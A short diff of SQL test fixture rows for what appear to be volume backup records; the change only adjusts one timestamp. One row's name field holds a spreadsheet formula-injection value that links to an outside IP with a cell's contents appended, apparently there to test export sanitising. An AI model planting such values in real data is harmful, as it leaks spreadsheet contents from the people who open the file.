@@ -182,7 +182,7 @@ SELECT column1 AS id, column2 AS volume_id, column3 AS project, column4 AS host,
      'restoring', 60, 1, '-2 days', '-190 minutes'),
     -- a name that a spreadsheet would run
     ('05a8c2f6-d7e1-49b3-8c60-f49d1b7e2a35', '5ce09a41-b8f7-4d26-a3e5-c7d1082f94b6', 0, 'ctl1', '=HYPERLINK("http://203.0.113.9/?"&A1)',
-     'deleting', 150, 1, '-30 days', '-185 minutes'),
+     'deleting', 150, 1, '-4290 minutes', '-185 minutes'),
     -- stuck for an unknown reason
     ('e16b9f30-48d5-4c7a-b2e9-07c4a5d8f162', 'f8d20b37-6ea5-4c91-87fb-04a9c3e5d16f', 1, 'ctl1', 'portal-db weekly',
      NULL, 90, 1, '-9 days', '-8 days'),
